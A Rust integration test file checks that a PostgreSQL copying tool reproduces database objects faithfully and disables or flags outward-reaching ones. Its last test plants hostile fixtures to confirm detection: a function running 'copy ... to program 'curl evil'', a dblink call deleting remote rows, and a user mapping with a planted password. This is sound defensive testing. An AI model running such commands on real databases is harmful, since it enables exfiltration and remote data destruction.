//! Objects of every kind on a real PostgreSQL server: they arrive, compare equal, and what reaches outside is disabled.

mod common;

use common::{mask_rule, no_rules, pg, readback, rehearse, source};
use greenroom_model::catalog::{Column, Family, Table, TableForm, TableName};

/// An ugly database. Nothing in it is disabled, so that the copy's fingerprint must equal the source's.
const UGLY: &str = include_str!("../../testkit/data/objects.postgres.sql");

fn rules(t: &Table, c: &Column) -> Vec<greenroom_model::plan::FieldRule> {
    let masked =
        ["code", "born", "seen", "at", "debt", "free", "cash", "f4", "f8", "b", "u", "j", "jb", "ip", "net", "tags", "words", "%s"];
    if matches!(t.name.name.as_str(), "client" | "group") && masked.contains(&c.name.as_str()) && c.family != Family::Other {
        vec![mask_rule()]
    } else {
        Vec::new()
    }
}

#[tokio::test]
async fn objects_of_every_kind_arrive() {
    let Some(pg) = &pg::server() else { return };
    pg.database("ugly", UGLY);
    let (catalog, mut generation, digests) = rehearse(pg, "ugly", "ugly_1_bb22", "bb22", 100, &rules).await;
    let copied = generation.inspect().await.unwrap();
    for (a, b) in catalog.tables.iter().zip(&copied.tables) {
        let (mut a, b) = (a.clone(), b.clone());
        (a.estimated_rows, a.estimated_bytes) = (b.estimated_rows, b.estimated_bytes);
        assert_eq!(a, b);
    }
    for o in &catalog.objects {
        assert!(
            copied.objects.contains(o),
            "missing or different: {o:#?} among {:#?}",
            copied.objects.iter().filter(|c| c.name == o.name).collect::<Vec<_>>()
        );
    }
    assert_eq!(copied.fingerprint(), catalog.fingerprint());
    assert_eq!(copied.settings, catalog.settings);
    let mut reader = generation.reader().await.unwrap();
    for (copy, digest) in &digests {
        assert_eq!(readback(&mut *reader, copy).await, *digest, "{}", copy.table);
    }
    let q = |sql: &str| pg.sql("ugly_1_bb22", sql);
    assert_eq!(q("select count(*) from client where note like 'fired%fired%'"), "0", "triggers must not fire during the copy");
    assert_eq!(q("select count(*), max(id) from visit"), "500|500");
    assert_eq!(q("select nextval('odd_seq'), nextval(pg_get_serial_sequence('client', 'id'))"), "110|302");
    assert_eq!(q("select relname, relispopulated from pg_class where relkind = 'm' order by 1"), "mv0|t\nmv1|t\nmv_empty|f");
    assert_eq!(q("select length(lo_get(77001)), length(lo_get(77002))"), "5000|0");
    assert_eq!(q("select count(*) from only base"), "1");
    assert_eq!(q("select convalidated from pg_constraint where conname = 'unchecked'"), "f");
    assert_eq!(q("show search_path"), "\"$user\", public, \"Billing Dept\"");
    assert_eq!(q("select r from client limit 1"), "client");
    for table in &copied.tables {
        for key in table.foreign_keys.iter().filter(|k| k.validated) {
            assert_eq!(generation.orphans(table, key).await.unwrap(), 0);
        }
        for key in table.foreign_keys.iter().filter(|k| !k.validated) {
            assert_eq!(generation.orphans(table, key).await.unwrap(), 1);
        }
    }
    generation.tidy().await.unwrap();
    assert_eq!(q("select count(*) from pg_namespace where nspname = 'greenroom'"), "0");
}

#[tokio::test]
async fn a_catalog_tells_what_masks_and_checks_need() {
    let Some(pg) = &pg::server() else { return };
    pg.database("told", UGLY);
    let catalog = source(pg, "told").await.inspect().await.unwrap();
    let client = catalog.table(&TableName::new("public", "client")).unwrap();
    let column = |name: &str| client.column(name).unwrap();
    assert_eq!((column("mail").family, column("mail").native_type.as_str()), (Family::Text, "public.email"));
    assert_eq!((column("shorty").max_length, column("shorty").nullable), (Some(10), false));
    assert_eq!(column("debt").precision, Some((10, 2)));
    assert_eq!(column("name").collation, Some(("public.ci".to_owned(), true)));
    assert_eq!(column("tags").family, Family::TextArray);
    let lower = client.indexes.iter().find(|i| i.name == "client_lower").unwrap();
    assert!(lower.unique && lower.predicate.is_some());
    assert!(format!("{:?}", lower.parts).contains("[\"mail\"]"));
    assert_eq!(catalog.large_objects, 2);
    assert!(matches!(catalog.table(&TableName::new("public", "derived")).unwrap().form, TableForm::Child { .. }));
    assert!(catalog.outbound.is_empty(), "{:?}", catalog.outbound);
}

#[tokio::test]
async fn what_reaches_outside_is_disabled_or_named() {
    let Some(pg) = &pg::server() else { return };
    pg.database(
        "outward",
        r#"create extension postgres_fdw; create extension dblink;
        create server "Prod ""db""" foreign data wrapper postgres_fdw options (host 'prod.example', dbname 'prod');
        create user mapping for postgres server "Prod ""db""" options (user 'app', password 'planted-secret');
        create foreign table remote (a int, b text) server "Prod ""db""" options (table_name 'x');
        create view over_remote as select a from remote;
        create function push() returns void language plpgsql as $$ begin perform dblink_exec('host=prod', 'delete from t'); end $$;
        create function export() returns void language sql as $$ copy (select 1) to program 'curl evil' $$;
        create table t (a int);
        create subscription sub connection 'host=prod.example dbname=x' publication p with (connect = false);
        create role staff; alter role staff in database outward set work_mem = '1MB'"#,
    );
    let (catalog, mut generation, _) = rehearse(pg, "outward", "outward_1_cc33", "cc33", 100, &no_rules).await;
    let disabled = |kind: &str| catalog.outbound.iter().find(|o| o.kind == kind).unwrap().disabled_by.is_some();
    assert!(disabled("foreign server") && disabled("user mapping") && disabled("subscription"));
    let named: Vec<&str> = catalog.outbound.iter().filter(|o| o.disabled_by.is_none()).map(|o| o.name.as_str()).collect();
    assert_eq!(named, ["public.export()", "public.push()"]);
    assert!(catalog.not_carried.iter().any(|(name, _)| name == "settings of role staff in this database"));
    let q = |sql: &str| pg.try_sql("outward_1_cc33", sql);
    assert!(q("select * from over_remote").unwrap_err().contains("has no handler"));
    assert_eq!(q("select count(*) from pg_user_mapping").unwrap(), "0");
    assert_eq!(
        q("select count(*) from pg_subscription where subdbid = (select oid from pg_database where datname = current_database())").unwrap(),
        "0"
    );
    assert!(!q("select srvoptions from pg_foreign_server").unwrap().contains("prod.example"));
    assert!(generation.inspect().await.unwrap().outbound.iter().all(|o| o.kind != "subscription"));
    pg.sql("outward", "alter subscription sub set (slot_name = none); drop subscription sub");
}
